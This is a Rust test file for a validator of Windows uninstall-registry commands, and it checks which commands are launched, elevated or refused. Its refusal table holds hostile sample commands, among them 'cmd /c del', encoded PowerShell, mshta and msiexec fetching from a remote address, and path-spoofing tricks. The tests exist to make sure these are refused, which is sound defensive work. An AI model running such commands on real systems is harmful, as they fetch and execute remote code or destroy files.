//! Uninstall commands, harmless and hostile, and what becomes of each.

use super::*;
use crate::machine::Presence;
use proptest::prelude::*;

const CODE: &str = "{5D35D57A-30B9-493B-819F-C6C2181A0A1A}";

fn folders() -> ProgramFolders {
    ProgramFolders::new(r"C:\Program Files", Some(r"C:\Program Files (x86)"), r"C:\Windows")
}

fn entry(source: ProgramSource, key: &str, uninstall: Option<&str>) -> Program {
    Program {
        source,
        key: key.into(),
        name: "Kaspersky".into(),
        version: None,
        publisher: None,
        location: None,
        location_there: Presence::NotAsked,
        uninstall: uninstall.map(str::to_string),
    }
}

/// What becomes of a command of the computer's own register under a key that is a mere name.
fn read(text: &str) -> Result<Launch, Refusal> {
    launch_of(&entry(ProgramSource::Hklm64, "Kaspersky", Some(text)), &folders())
}

/// The readings of a command that starts a program.
fn readings(text: &str) -> Vec<(String, String)> {
    match read(text) {
        Ok(Launch::Exe { candidates, .. }) => {
            candidates.into_iter().map(|command| (command.path, command.arguments)).collect()
        }
        other => panic!("{text}: {other:?}"),
    }
}

fn msi(elevation: Elevation) -> Result<Launch, Refusal> {
    Ok(Launch::Msi { product_code: ProductCode::parse(CODE).unwrap(), elevation })
}

#[test]
fn commands_of_windows_installer_become_a_removal() {
    for text in [
        "MsiExec.exe /I{C}",
        "MsiExec.exe /X{C}",
        "MsiExec.exe /I{C} REMOVE=ALL",
        "msiexec /x {C} /qn",
        "  msiexec.exe /x{C}  ",
        r"C:\Windows\System32\msiexec.exe /x {C}",
        r#""C:\WINDOWS\system32\MsiExec.exe" /x {C}"#,
        r"C:\Windows\SysWOW64\msiexec.exe /I{C}",
        r"%SystemRoot%\System32\msiexec.exe /x{C}",
        r#""%windir%\system32\msiexec.exe" /x{C}"#,
    ] {
        assert_eq!(read(&text.replace("{C}", CODE)), msi(Elevation::Allowed), "{text}");
    }
}

#[test]
fn the_command_and_its_key_must_name_one_product() {
    let command = format!("MsiExec.exe /I{CODE} REMOVE=ALL");
    let under = |key: &str| launch_of(&entry(ProgramSource::Hklm32, key, Some(&command)), &folders());
    assert_eq!(under(CODE), msi(Elevation::Allowed));
    assert_eq!(under(&CODE.to_lowercase()), msi(Elevation::Allowed));
    assert_eq!(under(&format!("InstallWIX_{CODE}")), msi(Elevation::Allowed));
    assert_eq!(under("{1A694303-9A42-43A8-A831-50F86C64EDF0}"), Err(Refusal::OtherProductCode));
}

#[test]
fn a_key_that_is_a_product_needs_no_command() {
    for uninstall in [None, Some(""), Some("   ")] {
        let under = |key: &str| launch_of(&entry(ProgramSource::Hklm64, key, uninstall), &folders());
        assert_eq!(under(CODE), msi(Elevation::Allowed));
        assert_eq!(under("Kaspersky"), Err(Refusal::EmptyCommand));
    }
}

#[test]
fn an_entry_of_the_account_is_never_run_with_rights() {
    for source in [ProgramSource::Hkcu, ProgramSource::Hku] {
        let of = |key: &str, text: Option<&str>| launch_of(&entry(source, key, text), &folders()).unwrap();
        assert_eq!(Ok(of("Kaspersky", Some(&format!("MsiExec.exe /X{CODE}")))), msi(Elevation::Never));
        assert_eq!(Ok(of(CODE, None)), msi(Elevation::Never));
        let started = of("Kaspersky", Some(r#""C:\Program Files\a\b.exe""#));
        assert!(matches!(started, Launch::Exe { elevation: Elevation::Never, .. }), "{source:?}: {started:?}");
    }
}

#[test]
fn a_quoted_program_is_read_in_one_way() {
    let one =
        |text, path: &str, arguments: &str| assert_eq!(readings(text), [(path.into(), arguments.into())], "{text}");
    one(r#""C:\Program Files\K\u.exe""#, r"C:\Program Files\K\u.exe", "");
    one(r#""C:\Program Files (x86)\K\u.exe" /s /x"#, r"C:\Program Files (x86)\K\u.exe", "/s /x");
    one(r#""c:\program files\K\U.EXE"   "a  b" \"c"#, r"c:\program files\K\U.EXE", r#""a  b" \"c"#);
    one(r#""%ProgramFiles%\K\u.exe" -x"#, r"C:\Program Files\K\u.exe", "-x");
    one(r#""C:\Program Files\K.exe old\u.exe" -x"#, r"C:\Program Files\K.exe old\u.exe", "-x");
}

#[test]
fn without_quotes_every_beginning_that_says_exe_is_a_candidate() {
    let path = r"C:\Program Files\Kaspersky Lab\u.exe".to_string();
    assert_eq!(readings(&path), [(path.clone(), String::new())]);
    assert_eq!(readings(&format!("{path} /s  /x")), [(path.clone(), "/s  /x".to_string())]);
    let longer = r"C:\Program Files\Kaspersky Lab\u.exe b\c.exe".to_string();
    assert_eq!(
        readings(&format!("{longer} -x")),
        [(path, r"b\c.exe -x".to_string()), (longer, "-x".to_string())],
        "the shortest first, as Windows tries them"
    );
    assert_eq!(readings(&format!(r"C:\Program Files\a.exe{}", " b.exe".repeat(50))).len(), MOST_CANDIDATES);
}

#[test]
fn hostile_commands_are_refused_with_their_reason() {
    use Refusal::*;
    let interpreter = |name: &str| Interpreter(name.into());
    let table = [
        // Nothing, or nothing readable.
        ("\"\" /x", EmptyCommand),
        ("\"C:\\Program Files\\a.exe\"\n/x", ControlCharacters),
        ("C:\\Program Files\\a\0.exe", ControlCharacters),
        ("\t", ControlCharacters),
        ("C:\\Program Files\\\u{202E}exe.a\\b.exe", ControlCharacters),
        ("C:\\Program Files\\a\u{200B}.exe", ControlCharacters),
        (r#""C:\Program Files\a.exe /x"#, BadQuotes),
        (r#""C:\Program Files\a.exe"b.exe /x"#, BadQuotes),
        // Interpreters, wherever they lie and however they are written.
        ("cmd /c del x", interpreter("cmd")),
        (r"C:\Windows\System32\cmd.exe /c del x", interpreter("cmd")),
        (r#""C:\Program Files\PowerShell\7\pwsh.exe" -c x"#, interpreter("pwsh")),
        ("powershell.exe -enc AAAA", interpreter("powershell")),
        (r#"rundll32.exe "C:\Program Files\a\b.dll",Uninstall"#, interpreter("rundll32")),
        (r"RunDll32 C:\PROGRA~1\a.dll,X", interpreter("rundll32")),
        ("regsvr32 /u x.dll", interpreter("regsvr32")),
        (r#"wscript.exe "C:\Program Files\a.js""#, interpreter("wscript")),
        ("mshta javascript:close()", interpreter("mshta")),
        ("mshta https://198.51.100.7/a.hta", interpreter("mshta")),
        (r"C:\Program Files\Git\bin\bash.exe -c x", interpreter("bash")),
        (r"C:\Program Files\a\cmd.exe -c b.exe", interpreter("cmd")),
        (r"C:\Program Files\a\u.exe b\cmd.exe", interpreter("cmd")),
        (r#""C:\Program Files\Java\bin\java.exe" -jar u.jar"#, interpreter("java")),
        (r"\\server\share\a.exe", NetworkPath),
        ("%ComSpec% /c x", Variable("%ComSpec%".into())),
        (r"%TEMP%\a.exe", Variable("%TEMP%".into())),
        // Windows Installer from elsewhere, or for something else.
        (r"C:\Temp\msiexec.exe /x{C}", interpreter("msiexec")),
        (r"C:\Program Files\a\msiexec.exe /x{C}", interpreter("msiexec")),
        (r".\msiexec.exe /x{C}", interpreter("msiexec")),
        ("MsiExec.exe /X{5D35D57A}", BadProductCode),
        ("MsiExec.exe /i https://198.51.100.7/a.msi", BadProductCode),
        ("MsiExec.exe /x{C} /x{1A694303-9A42-43A8-A831-50F86C64EDF0}", SeveralProductCodes),
        ("MsiExec.exe /x{C} TRANSFORMS=a.mst", OtherMsiAction("TRANSFORMS".into())),
        ("MsiExec.exe /fa{C}", OtherMsiAction("/fa".into())),
        ("MsiExec.exe /x{C} | more", UnknownArgument),
        // Where the program lies.
        ("uninstall.exe /x", Relative),
        (r"K\uninstall.exe", Relative),
        (r"\Program Files\a.exe", Relative),
        (r"C:a.exe", Relative),
        (r"C:\a.exe", OutsideProgramFiles),
        (r"C:\Users\Public\a.exe", OutsideProgramFiles),
        (r"C:\Windows\Temp\a.exe", OutsideProgramFiles),
        (r#""C:\ProgramData\Package Cache\{C}\setup.exe" /uninstall"#, OutsideProgramFiles),
        (r"C:\Program Files.exe", OutsideProgramFiles),
        (r"D:\Program Files\a.exe", OutsideProgramFiles),
        ("//server/share/a.exe", NetworkPath),
        (r#""\\127.0.0.1\c$\Program Files\a.exe""#, NetworkPath),
        (r"\\?\C:\Program Files\a.exe", DevicePath),
        (r"\\?\UNC\server\share\a.exe", DevicePath),
        (r"\\.\C:\Program Files\a.exe", DevicePath),
        (r"\??\C:\Program Files\a.exe", DevicePath),
        // Spellings that mean another file than they seem to.
        (r"C:\Program Files\..\Users\Public\a.exe", ParentFolder),
        (r"C:\Program Files\a\.\b.exe", ParentFolder),
        (r"C:\Program Files\a/../../b.exe", OddSpelling),
        (r"C:/Program Files/a.exe", OddSpelling),
        (r"C:\Program Files\\a.exe", OddSpelling),
        (r"C:\Program Files\a*.exe", OddSpelling),
        (r#"C:\"Program Files"\a.exe"#, OddSpelling),
        (r"C:\PROGRA~1\a.exe", ShortName),
        (r"C:\Program Files\KASPER~2\a.exe", ShortName),
        (r"C:\Program Files\a.txt:b.exe", AlternateStream),
        (r"C:\Program Files\a.txt::$DATA.exe", AlternateStream),
        (r#""C:\Program Files\a. \b.exe""#, DotOrSpaceAtEnd),
        (r"C:\Program Files\a.\b.exe", DotOrSpaceAtEnd),
        (r#""C:\Program Files\a.exe ""#, DotOrSpaceAtEnd),
        (r"C:\Program Files\ a\b.exe", DotOrSpaceAtEnd),
        (r"C:\Program Files\a\NUL.exe", DevicePath),
        (r"C:\Program Files\com1\a.exe", DevicePath),
        // Not a program.
        (r#""C:\Program Files\a\u.bat""#, NotAnExecutable),
        (r#""C:\Program Files\a\u.msi" /x"#, NotAnExecutable),
        (r#""C:\Program Files\a\u""#, NotAnExecutable),
        (r#""C:\Program Files\a\.exe""#, NotAnExecutable),
        (r"C:\Program Files\a\u.exe/x", NotAnExecutable),
        ("https://198.51.100.7/uninstall", Relative),
        ("ms-settings:appsfeatures", Relative),
        ("shell:AppsFolder", Relative),
    ];
    for (text, expected) in table {
        assert_eq!(read(&text.replace("{C}", CODE)), Err(expected), "{text}");
    }
}

#[test]
fn long_text_is_refused() {
    let text = |length: usize| format!("{}{}", r#""C:\Program Files\a.exe" "#, "x".repeat(length));
    assert!(read(&text(100)).is_ok());
    assert_eq!(read(&text(LONGEST)), Err(Refusal::TooLong));
    assert_eq!(read(&format!(r#""C:\Program Files\{}\a.exe""#, "x".repeat(250))), Err(Refusal::TooLong));
}

#[test]
fn a_refusal_never_repeats_a_password() {
    for text in [
        "msiexec /x{A} KLPASSWD=secret",
        "msiexec /x TRANSFORMS=secret",
        "cmd /c secret",
        "msiexec /secretsecretsecretsecret",
        "secret",
    ] {
        let Err(refusal) = read(text) else { panic!("{text}") };
        assert!(!refusal.to_string().contains("secretsecretsecretsecret"), "{refusal}");
        assert!(text.contains("/secret") || !refusal.to_string().contains("secret"), "{refusal}");
    }
}

#[test]
fn on_other_systems_nothing_is_started() {
    for source in
        [ProgramSource::Dpkg, ProgramSource::Rpm, ProgramSource::Pacman, ProgramSource::Bundle, ProgramSource::Receipt]
    {
        let program = entry(source, "kesl", Some(r#""C:\Program Files\a.exe""#));
        assert!(matches!(launch_of(&program, &folders()), Ok(Launch::Shown(_))), "{source:?}");
    }
}

/// Pieces that commands, harmless and hostile, are made of.
fn piece() -> impl Strategy<Value = String> {
    let known = [
        r"C:\Program Files",
        r"C:\Program Files (x86)",
        r"\",
        "/",
        "\"",
        " ",
        ".exe",
        "Kaspersky Lab",
        "..",
        r"\..\",
        ".",
        "~1",
        ":",
        r"\\",
        r"\\?\",
        "cmd.exe",
        "u.exe",
        "msiexec",
        "/x",
        "/I",
        CODE,
        "%ProgramFiles%",
        "%TEMP%",
        "NUL",
        "\0",
        "\u{202E}",
        r#"C:\Program Files\K\u.exe"#,
        "TRANSFORMS=",
        "http://",
        "\t",
    ];
    prop_oneof![4 => prop::sample::select(known.to_vec()).prop_map(str::to_string), 1 => ".{0,4}"]
}

fn source() -> impl Strategy<Value = ProgramSource> {
    prop::sample::select(vec![ProgramSource::Hklm64, ProgramSource::Hklm32, ProgramSource::Hkcu, ProgramSource::Hku])
}

/// Says what is wrong with a reading that passed. None: nothing.
fn fault(command: &ExeCommand, text: &str) -> Option<&'static str> {
    let path = command.path.to_lowercase();
    let below = [r"c:\program files\", r"c:\program files (x86)\"].iter().any(|root| path.starts_with(root));
    let parts: Vec<&str> = path[3..].split('\\').collect();
    let name = parts.last()?;
    [
        (!below, "outside Program Files"),
        (!path.ends_with(".exe") || name.len() < 5, "no .exe"),
        (path.chars().any(char::is_control), "control characters"),
        (parts.iter().any(|part| matches!(*part, "" | "." | "..")), "an empty or parent part"),
        (path[2..].contains([':', '/', '"', '*', '?']), "characters of other paths"),
        (path.contains("~1"), "a short name"),
        (parts.iter().any(|part| part.ends_with(['.', ' '])), "a dot or space at the end"),
        (["cmd.exe", "msiexec.exe"].contains(name), "an interpreter"),
        (!text.trim_end_matches(' ').ends_with(&command.arguments), "arguments that are not verbatim"),
    ]
    .into_iter()
    .find_map(|(wrong, what)| wrong.then_some(what))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4096))]
    #[test]
    fn what_passes_lies_below_program_files_whatever_the_text(pieces in prop::collection::vec(piece(), 0..9), source in source()) {
        let text = pieces.concat();
        match launch_of(&entry(source, "Kaspersky", Some(&text)), &folders()) {
            Ok(Launch::Exe { candidates, elevation }) => {
                prop_assert!(!candidates.is_empty());
                prop_assert_eq!(elevation == Elevation::Never, source.scope() == Scope::User);
                for command in candidates {
                    prop_assert_eq!(fault(&command, &text), None, "{:?}", command);
                }
            }
            Ok(Launch::Msi { product_code, .. }) => prop_assert_eq!(product_code.as_str(), CODE),
            Ok(Launch::Shown(_)) => prop_assert!(false, "Windows' entries are not shown"),
            Err(_) => {}
        }
    }

    #[test]
    fn no_text_and_no_key_is_too_odd(key in any::<String>(), text in any::<String>(), source in source()) {
        let _ = launch_of(&entry(source, &key, Some(&text)), &folders());
        let _ = launch_of(&entry(source, &key, None), &ProgramFolders::default());
    }
}
